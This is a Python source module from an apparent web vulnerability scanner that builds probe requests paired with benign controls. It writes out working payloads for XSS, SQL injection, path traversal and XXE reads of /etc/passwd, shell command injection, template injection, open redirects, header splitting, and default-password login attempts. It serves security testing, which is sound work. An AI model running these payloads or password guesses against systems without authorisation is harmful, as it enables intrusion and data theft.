"""Builds attack questions for one input: each payload beside its benign control. Pure; the oracles judge.

Nothing here destroys, stores a program or delays. A condition only narrows what a read returns, and one that
widens it is sent by GET only; a computed expression is a product; a climbed path reads a file that every
system lets everybody read. Canaries and factors come from `chance`, so that a run can be repeated.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from random import Random
from typing import Any
from urllib.parse import quote, unquote, urlencode

from fleet.drivers.desk import Question, led_by
from fleet.drivers.explore.listened import asking, heard
from fleet.drivers.explore.origins import FOREIGN, unheard
from fleet.drivers.explore.web.points import Point
from fleet.oracles.web.access import (
    BY_A_PROXY,
    IN_A_FRAMEWORK,
    PASSWORDS,
    QUERIES,
    basic,
    encoded_first,
    missing,
    path_of,
)
from fleet.oracles.web.variations import FORM, NONE
from fleet.personas.model import Step

READ = frozenset({"GET", "HEAD"})
ODD_HEADERS = (
    ("range", "bytes=-"),
    ("range", "bytes=9-1,,0-"),
    ("accept", ";q=x,,*/"),
    ("accept-language", "*;q=,;-"),
    ("accept-encoding", ";q=1,,"),
    ("if-modified-since", "moss"),
    ("if-none-match", 'W/"'),
    ("cookie", "=; a; b=%; ="),
    ("authorization", "Basic ="),
    ("authorization", "Bearer ..."),
    ("authorization", "Digest a=,"),
    ("content-type", "multipart/form-data; boundary="),
    ("content-type", ";charset="),
    ("content-encoding", "gzip"),
    ("x-forwarded-proto", "://"),
    ("x-forwarded-port", "-1"),
    ("origin", "://"),
    ("referer", "http://[/%"),
    ("user-agent", "("),
    ("if-range", "("),
    ("sec-websocket-key", "="),
    ("x-requested-with", "moss"),
    *((name, "__proto__") for name in ("accept", "accept-encoding", "accept-language", "accept-charset")),
    ("authorization", "constructor moss"),
    ("cookie", "__proto__=1; constructor=2"),
    ("range", "__proto__=0-1"),
    ("content-type", "__proto__/constructor"),
)
"""Values that break what reads them carelessly (RFC 9110, 5 to 14; RFC 7239), words that every object of a
script has among them, where a table is asked by what a caller sends."""
PARTS = (
    "--qa\r\nContent-Disposition: form-data\r\n\r\nfern\r\n--qa--\r\n",
    '--qa\r\nContent-Disposition: form-data; name=""\r\n\r\nfern\r\n--qa--\r\n',
    '--qa\r\nContent-Disposition: form-data; name="a"; filename="moss"\r\n\r\nfern',
    "--qa\r\nmoss\r\n\r\nfern\r\n--qa\r\nmoss\r\n\r\nfern\r\n",
    '--qa\r\n Content-Disposition: form-data; name="a"\r\n\r\n\r\n--qa--\r\n',
)
"""Bodies in parts that are not well formed (RFC 7578, RFC 2046, 5.1): no name, an empty one, no end, headers
that are none, a header that begins with a space."""
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY qa SYSTEM "file:///etc/passwd">]><a>\n&qa;\n</a>'
"""A document that asks its reader for a file that everybody may read (CWE-611)."""
_KEY = "dGhlIHNhbXBsZSBub25jZQ=="
"""Sixteen bytes in base64, as an offer of a WebSocket has them."""
GUESSED = "maybe"
"""Name of a tail below a folder that a script's or a text's word may be."""
UP = 12
"""Folders that a path climbs out of: more than there are, since above the last one is only itself."""

_ORDERS = re.compile(
    r"(?i)(?:sort|order)(?:[_-]?(?:by|ing|col|column|field))?\Z|\A(?:by|column|group[_-]?by)\Z"
)
"""Inputs whose value stands in a query as a column's name, where no quote is around it."""
Attack = Callable[[Point, Random], Iterator[Question]]


def questions(point: Point, chance: Random) -> Iterator[Question]:
    """The attacks on one input, the cheapest and most telling first; take as many as the room allows.

    What an input's name, or its value, says of its use decides what is asked first. Each question begins with
    its benign control; the oracles judge every later step against it. About 95 calls in all, at most 10 in
    one question.
    """
    first = [attack for pattern, attacks in NAMED if pattern.search(point.name) for attack in attacks]
    first += [_quote, _condition] if point.value.isdigit() else []
    for attack in dict.fromkeys((*first, *ATTACKS)):
        yield from led_by(attack.__name__.strip("_").replace("_", " "), *attack(point, chance))


def below(folder: Point, chance: Random, *, root: bool) -> Iterator[Question]:
    """The attacks on what stands below a folder, in spellings that no link has: out of the folder to a file
    that everybody may read, and, from the root, to a foreign host, as a browser can send it."""
    up, file, named = "../" * UP, "etc/passwd", "etc/host.conf"  # some only serve a name with an extension
    if folder.name == GUESSED:
        yield _beside(folder, *ways_out(file))
        yield _beside(replace(folder, value=NONE), "etc/group", file)
        return
    ways = (
        up + file,
        up.replace("..", "%2e%2e") + file,
        (up + file).replace("/", "%2f"),
        "....//" * UP + file,
        f"/{file}",
        f"/{file}".replace("/", "%2f"),
        up + named,
        up.replace("..", "%2e%2e") + named,
        (up + named).replace("/", "%2f"),
        (up + file).replace("..", "%252e%252e").replace("/", "%252f"),
        (up + file).replace("/", "%5c"),
        "..;/" * UP + file,
    )
    yield _beside(folder, *ways)
    if root:
        host = f"{unheard(chance)}.{FOREIGN}"
        yield _beside(folder, f"/{host}/", f"/{host}/%2f..", f"/{host}/..%2f", f"%5c{host}/%2f..")
        yield _beside(folder, f"/{host}//{host}/%2e%2e%2f%2e%2e", f"/{host}")
        for own in ("package.json", "node_modules/.package-lock.json"):  # beside the folder that is served
            one_up = ("../", "%2e%2e/", "..%2f", "%2e%2e%2f", "..%5c", "%252e%252e%252f")
            yield _beside(replace(folder, value=own), *(way + own for way in one_up))
        yield _beside(replace(folder, value=f"@fs/{file}"), *(f"@fs/{file}?{query}" for query in QUERIES))
        yield from (_beside(folder, way) for way in ("/x@x", "/^/..", "/[", "/:x", "%E0%A4%A", "/%ff"))
    yield _beside(replace(folder, value=NONE), "etc/group", file)  # where a joined path begins anew


def ways_out(file: str) -> tuple[str, ...]:
    """The most telling ways out of a folder."""
    up = "../" * UP + file
    return up, up.replace("..", "%2e%2e"), up.replace("/", "%2f")


def beside_first(question: Question) -> Iterator[Question]:
    """Ways out of a folder in which a file that is not there has no answer: each by itself, beside what
    stands at the folder's name."""
    folder = str(question.steps[0].args.get("url", "")).removesuffix("etc/passwd")
    asked = [str(step.args.get("url", "")) for step in question.steps]
    for url in (folder + way for way in ways_out("etc/passwd")):
        if url in asked:
            named = folder if path_of(folder) == "/" else folder.rstrip("/")
            yield Question(tuple(Step(tool="qa_fetch", args={"url": one}) for one in (named, url)))


def respelled(url: str, first: str) -> Iterator[Question]:
    """A page that is refused, asked for as other servers would read its path, with queries that choose how a
    file is served, and with what a proxy says of a caller; before each the same for a page that is not there.
    `first` is the first page of its host."""
    path = path_of(url)
    before, name = url[: -len(path)], path.rpartition("/")[2]
    folder = path[: -len(name)] if name else path
    ways = [f"/{path}", f"{folder}./{name}", f"{path}/", f"{path};x=1", f"/qa/..{path}", f"/qa/..;{path}"]
    ways += [f"{folder}{encoded_first(name)}", f"{folder}{name.upper()}", f"{path}.json", f"{path}/."]
    ways += [f"{path}?{query}" for query in QUERIES]
    sent: list[dict[str, Any]] = [{"url": before + way} for way in ways]
    sent += [{"url": url, "headers": {name: said}} for name, said in (BY_A_PROXY | IN_A_FRAMEWORK).items()]
    controls = [{"url": first}, {"url": url}]
    for at in range(0, len(sent) if name else 0, 4):
        pairs = [each for one in sent[at : at + 4] for each in (missing(url, one), one)]
        yield Question(tuple(Step(tool="qa_fetch", args=args) for args in (*controls, *pairs)))


def as_the_framework(url: str, first: str) -> Question:
    """A page that sends one elsewhere, as its framework asks for it within; before it the same for a page
    that is not there."""
    asked = {"url": url, "headers": dict(IN_A_FRAMEWORK)}
    steps = ({"url": first}, {"url": url}, missing(url, asked), asked)
    return Question(tuple(Step(tool="qa_fetch", args=args) for args in steps))


def passwords(url: str, chance: Random) -> Question:
    """Default passwords of a page that asks for one, each name with a wrong password before."""
    users = dict.fromkeys(user for user, _ in PASSWORDS)
    pairs = [*((user, unheard(chance)) for user in users), *PASSWORDS]
    headers = ({}, *({"headers": basic(*pair)} for pair in pairs))
    return Question(tuple(Step(tool="qa_fetch", args={"url": url, **more}) for more in headers))


def log_ins(url: str, user: str, password: str, others: Mapping[str, str], chance: Random) -> Question:
    """The same by a form; `user` and `password` are the names of its fields."""
    pairs = [("admin", unheard(chance)), *(one for one in PASSWORDS if one[0] == "admin")]
    bodies = [urlencode({**others, user: one[0], password: one[1]}) for one in pairs]
    sent = {"url": url, "method": "POST", "body_type": FORM}
    return Question(tuple(Step(tool="qa_fetch", args={**sent, "body": body}) for body in bodies))


def headers(url: str) -> Iterator[Question]:
    """Headers that a careful server reads or leaves aside: each is well formed for HTTP, and odd for its
    reader."""
    for at in range(0, len(ODD_HEADERS), 9):
        more = ({}, *({"headers": {name: value}} for name, value in ODD_HEADERS[at : at + 9]))
        yield Question(tuple(Step(tool="qa_fetch", args={"url": url, **one}) for one in more))


def upgrades(url: str) -> Question:
    """Offers of a WebSocket that are not well formed (RFC 6455, 4.1), after the page itself."""
    whole = {"upgrade": "websocket", "sec-websocket-version": "13", "sec-websocket-key": _KEY}
    odd: tuple[dict[str, str], ...] = (
        {"sec-websocket-extensions": "constructor"},
        {"sec-websocket-extensions": "permessage-deflate; client_max_window_bits=constructor; __proto__"},
        {"sec-websocket-extensions": 'permessage-deflate; a="' + ", ;=" * 40},
        {"sec-websocket-protocol": "__proto__, ,constructor"},
        {"sec-websocket-protocol": "a," * 1_000},
        {"sec-websocket-version": "moss"},
        {"sec-websocket-key": "="},
        {"origin": "://", "cookie": "%; =; __proto__=1"},
    )
    steps = ({}, *({"headers": whole | one} for one in odd), {"headers": {"upgrade": "websocket"}})
    return Question(tuple(Step(tool="qa_fetch", args={"url": url, **one}) for one in steps))


def hosts(url: str, chance: Random) -> Iterator[Question]:
    """Names by which nobody calls a host: what a page repeats of them never runs, and none ends the server.
    A name that may be another server's is not sent (fleet/broker/forward.py)."""
    canary, point = unheard(chance), Point(url, "header", "host", "")
    markup = (canary, f"<script>{canary}</script>", f"\"'><svg onload={canary}>")
    yield Question(tuple(point.step(text, canary=canary) for text in markup))
    odd = ({}, *({"headers": {"host": name}} for name in ("a b:x", "[", "%", "^|")))
    yield Question(tuple(Step(tool="qa_fetch", args={"url": url, **one}) for one in odd))


def bodies(point: Point) -> Iterator[Question]:
    """Bodies that are not what their type says, beside the one that a client sends."""
    plain = {"body": point.value, "body_type": point.name}
    ways: list[dict[str, Any]] = [
        {"body": body, "body_type": "application/json"} for body in ("{", "[]", "null", '"moss"', "[" * 5_000)
    ]
    ways += [
        {**plain, "body": ""},
        {**plain, "body_type": f"{point.name}; charset=moss"},
        {**plain, "body_type": "multipart/form-data"},
        {**plain, "headers": {"content-encoding": "gzip"}},
        {"body": "%&[=&a[]=1&a[b]=2&=", "body_type": FORM},
        {"body": "<a", "body_type": "application/xml"},
        {**plain, "body_type": "/;="},
        *({"body": parts, "body_type": "multipart/form-data; boundary=qa"} for parts in PARTS),
    ]
    url = {"url": point.url, "method": point.method}
    for at in range(0, len(ways), 6):
        steps = ({**url, **one} for one in (plain, *ways[at : at + 6]))
        yield Question(tuple(Step(tool="qa_fetch", args=args) for args in steps))
    xml = point.name if "xml" in point.name else "application/xml"
    documents = ({**url, "body": body, "body_type": xml} for body in ("<a>\nmoss\n</a>", ENTITY))
    yield Question(tuple(Step(tool="qa_fetch", args=args) for args in documents))


def _script(point: Point, chance: Random) -> Iterator[Question]:
    """A canary as a program, by context: element, any open element or attribute, attribute; URL, script."""
    canary = unheard(chance)
    elements = (
        f"<script>{canary}</script>",
        f"\"'--></title></textarea></style></script><svg onload={canary}>",
        f"\" onfocus={canary} x='",
        f"' onfocus={canary} x=\"",
    )
    programs = (f"javascript:{canary}", f"[x](javascript:{canary})", f'";{canary};"', f"';{canary};'")
    for payloads in (elements, programs):
        yield Question(tuple(point.step(text, canary=canary) for text in (canary, *payloads)))


def _edges(point: Point, _chance: Random) -> Iterator[Question]:
    """Values that no careful program breaks on; what a server's failure or a leak tells is judged of each."""
    yield _beside(point, "", "-1", "0", "NaN", "1e309", "9" * 40, "[]", '{"a":[{}]}', "\ufffd\U0001f33f")
    yield _beside(point, f"{point.value}\0", "\u202e%s%n%d", "a" * 4_000)


def _quote(point: Point, _chance: Random) -> Iterator[Question]:
    """A quote breaks, a doubled quote mends."""
    for mark in ("'", '"'):
        given = (point.value, point.value + mark, point.value + mark * 2, point.value)
        yield Question(tuple(point.step(text) for text in given))


def _expression(point: Point, chance: Random) -> Iterator[Question]:
    """A product in the languages of templates: computed, it shows as a number that stands nowhere else."""
    one, two = chance.randrange(1_009, 9_973), chance.randrange(1_009, 9_973)
    marks = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%s}", "[[%s]]")
    yield _beside(point, *(mark % f"{one}*{two}" for mark in marks))


def _command(point: Point, chance: Random) -> Iterator[Question]:
    """A product that a shell computes: at the end of a command, in one, or in a quoted text of one."""
    one, two = chance.randrange(1_009, 9_973), chance.randrange(1_009, 9_973)
    counts = f"expr {one} \\* {two}"
    ways = (
        f"$(({one}*{two}))",
        f";{counts};",
        f"|{counts}",
        f"';{counts};'",
        f"$({counts})",
        f"\n{counts}\n",
    )
    yield _beside(point, *(f"{point.value}{way}" for way in ways))


def _listened(point: Point, chance: Random) -> Iterator[Question]:
    """The fleet's own listener as an address: a server that asks for it is heard."""
    yield _beside(point, heard(chance))


def _listened_command(point: Point, chance: Random) -> Iterator[Question]:
    """A command that asks for the listener, whatever of its output is shown."""
    yield _beside(point, *(f"{point.value}{way}" for way in asking(chance)))


def options(url: str, chance: Random) -> Question:
    """An option of a template's engine in the query, for a page whose whole query becomes its values: a
    product that the engine would compute (CWE-1336)."""
    name = quote("settings[view options][outputFunctionName]", safe="")
    program = f"x;__append({chance.randrange(1_009, 9_973)}*{chance.randrange(1_009, 9_973)});y"
    point = Point(f"{url}{'&' if '?' in url else '?'}{name}=moss", "query", unquote(name), "moss")
    return _beside(point, program)


def _climb(point: Point, _chance: Random) -> Iterator[Question]:
    """Paths to a file that everybody may read; `..` by the usual spellings, and the path itself."""
    up, file = "../" * 8, "etc/passwd"
    ways = [
        up + file,
        f"/{file}",
        f"file:///{file}",
        quote(up + file, safe=""),
        "....//" * 8 + file,
        (up + file).replace("/", "\\"),
    ]
    if "." in point.value:
        ways.append(f"{up}{file}\0.{point.value.rpartition('.')[2]}")
    yield _beside(point, *ways)


def _redirect(point: Point, chance: Random) -> Iterator[Question]:
    """A foreign host as the place to go on to, in the spellings that a browser reads as one."""
    host = f"{unheard(chance)}.{FOREIGN}"
    yield _beside(point, f"https://{host}/", f"//{host}/", f"/\\{host}/", f"https:{host}/", f"/\t/{host}/")
    yield _beside(point, f"{{site}}@{host}/", f"{{site}}.{host}/", f"https://{host}/{{site}}")


def _split(point: Point, chance: Random) -> Iterator[Question]:
    """A line break and a header of ours."""
    if point.kind != "header":  # an HTTP client sends none within a header
        header = f"x-{unheard(chance)}: {unheard(chance)}"
        yield _beside(point, f"{point.value}\r\n{header}", f"{point.value}\n{header}")


def _json(point: Point, chance: Random) -> Iterator[Question]:
    """A quoted text that becomes a field, where an answer is put together by hand."""
    yield _beside(point, f'{point.value}","{unheard(chance)}":"1')


def _condition(point: Point, chance: Random) -> Iterator[Question]:
    """A condition that is true, and one that is false, each twice; one that widens a read by GET only."""
    one, two = chance.sample(range(1_000, 9_999), 2)
    value = point.value
    forms = [(value, f"{value}' AND '{one}'='%s"), (value, f"{value} AND {one}=%s")]
    forms.append((value, f"{value}%%' AND '{one}%%'='%s"))
    if point.method in READ:
        forms.append((f"qa{value}", f"qa{value}' OR '{one}'='%s"))
    if _ORDERS.search(point.name):  # in an order of the column where the condition holds, else in none
        case = f"(CASE WHEN {one}=%s THEN {value} ELSE NULL END)"
        # a name in quotes, and a dot, where only columns of a table are permitted
        bare = value.removeprefix("-")
        row = '(SELECT 1 AS a) AS "x" WHERE "x".a=1'
        named = f"\"{bare}\"||(SELECT CASE WHEN {one}=%s THEN '' ELSE NULL END FROM {row})"
        forms[:0] = [
            (f"{value} DESC", f"{case} DESC"),
            (value, case),
            (f"-{bare}", f"-{named}"),
            (bare, named),
        ]  # rows may lie in one of the two orders anyway
    for plain, form in forms:
        true, false = (form.replace("%s", str(other)).replace("%%", "%") for other in (one, two))
        yield Question(tuple(point.step(text) for text in (plain, true, false, true, false)))


def _beside(point: Point, *payloads: str) -> Question:
    """The benign call, and one of each payload: each is judged against the first."""
    return Question(tuple(point.step(text) for text in (point.value, *payloads)))


ATTACKS: tuple[Attack, ...] = (
    _script,
    _redirect,
    _edges,
    _quote,
    _listened,
    _expression,
    _command,
    _climb,
    _listened_command,
    _split,
    _json,
    _condition,
)
"""In order of worth."""
NAMED: tuple[tuple[re.Pattern[str], tuple[Attack, ...]], ...] = (
    (_ORDERS, (_condition, _quote)),
    (re.compile(r"(?i)next|redirect|return|continue|dest|callback|forward|goto|ur[il]\Z"), (_redirect,)),
    (re.compile(r"(?i)file|path|folder|dir\Z|page|template|layout|document|include|attachment"), (_climb,)),
    (re.compile(r"(?i)\A(?:q|query|search|term|filter|where|keyword)\Z"), (_script, _quote, _condition)),
    (
        re.compile(r"(?i)\A(?:cmd|command|exec|host|ip|domain|ping|expr|formula|calc)"),
        (_command, _listened_command, _expression),
    ),
    (
        re.compile(
            r"(?i)ur[il]\Z|href|link|src|hook|feed|proxy|remote|fetch|target|endpoint|server|host|image|avatar"
            r"|source|location|address"
        ),
        (_listened,),
    ),
)
"""What is asked first of inputs with such names: what people call an input says where its value goes."""
